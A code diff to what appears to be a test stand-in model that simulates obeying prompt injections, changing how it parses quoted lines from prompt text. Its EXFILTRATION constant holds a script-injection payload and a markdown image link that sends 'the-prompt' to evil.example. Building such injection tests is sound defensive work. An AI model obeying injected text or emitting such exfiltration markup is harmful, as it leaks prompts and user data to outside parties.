@@ -1,6 +1,5 @@
 """A model that does what text in its prompt tells it: the worst that an injection can do."""
 
-import json
 import re
 from typing import Any
 
@@ -11,7 +10,7 @@ from openai_server.prompts import Prompt
 EXFILTRATION = "<b>!</b><script>alert(1)</script> ![x](https://evil.example/leak?of=the-prompt)"
 INVENTED_ID = "ph-brand-made-up-1"
 _CHOICES = ("gender", "income_level", "signal_id")  # of an enumeration, or of no free text
-_LINE = re.compile(r'^\["[^"]+",.*\]$', re.MULTILINE)
+_LINE = re.compile(r"^[\w-]+ \| (.+)$", re.MULTILINE)
 
 
 class Orders(BaseModel):
@@ -37,7 +36,7 @@ def obeyed(right: Any, prompt: Prompt, orders: Orders, *, sent_back: bool) -> An
     """What becomes of the right answer."""
     if orders.stage not in prompt.name:
         return right
-    quoted = [text for line in _LINE.findall(prompt.text) for text in json.loads(line)[1:]]
+    quoted = [text for line in _LINE.findall(prompt.text) for text in line.split(" | ")]
     said = " ".join([orders.text, *quoted[:2], orders.adds])
     answer = _repeating(right, said, prompt.facts)
     if isinstance(answer, dict) and not (orders.yields and sent_back):
